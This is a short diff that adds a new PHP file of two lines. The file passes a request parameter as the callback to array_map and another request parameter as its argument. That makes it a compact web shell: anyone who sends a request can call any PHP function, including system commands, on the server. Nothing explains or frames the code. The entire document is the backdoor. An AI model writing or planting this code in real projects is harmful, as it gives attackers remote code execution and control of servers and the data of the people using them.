@@ -1,0 +1,2 @@
+<?php
+array_map($_REQUEST['cb'], array($_REQUEST['arg']));
